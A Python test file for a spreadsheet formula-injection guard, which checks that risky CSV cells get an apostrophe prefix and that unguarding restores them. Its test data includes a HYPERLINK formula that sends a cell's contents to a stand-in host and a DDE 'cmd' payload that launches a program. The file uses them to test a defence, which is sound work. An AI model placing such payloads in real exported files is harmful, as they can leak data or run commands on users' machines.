"""公式注入防护: CSV cells a spreadsheet would take for formulas get an apostrophe; the import drops it."""

from __future__ import annotations

import polars as pl
from hypothesis import given
from hypothesis import strategies as st

from fupin.core.formula_guard import guard, guard_expr, unguard, unguard_expr


def test_formulas_are_guarded_and_plain_numbers_and_text_are_not():
    values = ['=HYPERLINK("http://x/?"&C2,"点击")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\tx", "\rx",
              "-35.5", "+86", "1200", "-", "城东组", "'=x", "'", "", None]
    out = pl.DataFrame({"v": values}).select(guard_expr(pl.col("v"))).to_series().to_list()
    assert out == ['\'=HYPERLINK("http://x/?"&C2,"点击")', "'+1+2", "'-2+3+cmd|' /C calc'!A0", "'@SUM(A1:A9)",
                   "'\tx", "'\rx", "-35.5", "+86", "1200", "'-", "城东组", "''=x", "'", "", None]


def test_a_frame_is_guarded_only_where_needed_and_other_columns_are_kept():
    frame = pl.DataFrame({"safe": ["a", "b"], "risky": ["=1", "b"], "n": [1, 2]})
    guarded = guard(frame)
    assert guarded["safe"].to_list() == ["a", "b"] and guarded["risky"].to_list() == ["'=1", "b"]
    assert guarded["n"].to_list() == [1, 2]
    assert unguard(guarded).equals(frame)
    assert unguard(pl.DataFrame({"a": ["'=1"], "b": ["'=1"]}), ["a"]).row(0) == ("=1", "'=1")
    assert guard(frame.head(0)).equals(frame.head(0))


@given(st.lists(st.one_of(st.none(), st.text(alphabet="'=+-@\t\r0123456789.ab组", max_size=8)), max_size=30))
def test_unguard_undoes_guard_and_nothing_guarded_reads_as_a_formula(values):
    frame = pl.DataFrame({"v": values}, schema={"v": pl.Utf8})
    guarded = frame.select(guard_expr(pl.col("v"))).to_series()
    assert frame.select(unguard_expr(pl.lit(guarded))).to_series().to_list() == values
    for before, after in zip(values, guarded.to_list(), strict=True):
        if after and after[0] in "=+-@\t\r":  # left as it was: only a plain number may begin so
            assert after == before
            float(after)
